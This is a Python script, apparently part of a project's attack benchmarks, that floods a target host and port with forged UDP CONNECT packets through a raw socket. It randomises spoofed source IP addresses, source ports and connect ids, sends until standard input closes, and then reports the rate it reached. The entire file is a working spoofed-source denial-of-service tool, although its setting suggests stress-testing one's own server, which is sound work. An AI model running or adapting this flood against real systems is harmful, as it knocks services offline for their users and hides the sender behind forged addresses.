"""Forged CONNECTs at a rate, until standard input closes: ``python -m benchmarks.attacks.storm HOST PORT RATE WHERE``.

WHERE is ``everywhere`` or the first three numbers of a network. Needs raw sockets. Prints the rate that it reached.
"""

from __future__ import annotations

import random
import select
import socket
import struct
import sys
import time
from contextlib import suppress

from benchmarks.attacks import wire

_HEADER = 20 + 8


def packet(target: str, port: int) -> bytearray:
    """An IP packet without its source address, source port and connect id."""
    body = wire.connect(0)
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, 17, 0, bytes(4), socket.inet_aton(target))
    return bytearray(ip + struct.pack(">HHHH", 0, port, 8 + len(body), 0) + body)


def main(target: str, port: int, rate: int, where: str) -> None:
    """Send until standard input closes."""
    plain = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    plain.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
    chance = random.Random(1)
    network = None if where == "everywhere" else socket.inet_aton(f"{where}.0")[:3]
    data, sent, begin = packet(target, port), 0, time.monotonic()
    while not select.select([sys.stdin], [], [], 0)[0]:
        due = int((time.monotonic() - begin) * rate)
        for _ in range(min(due - sent, 1000)):
            draw = chance.getrandbits(64)
            # First number 20 to 99: not used on this machine.
            source = network + bytes([draw & 255]) if network else bytes([20 + draw % 80]) + draw.to_bytes(8, "big")[:3]
            data[12:16] = source
            data[20:22] = (1024 + (draw >> 8) % 60_000).to_bytes(2, "big")
            data[_HEADER + 44 : _HEADER + 48] = (draw >> 32).to_bytes(4, "big")
            with suppress(OSError):
                plain.sendto(data, (target, 0))
            sent += 1
        time.sleep(0.001)
    print(f"{sent / (time.monotonic() - begin):.0f}", flush=True)


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4])
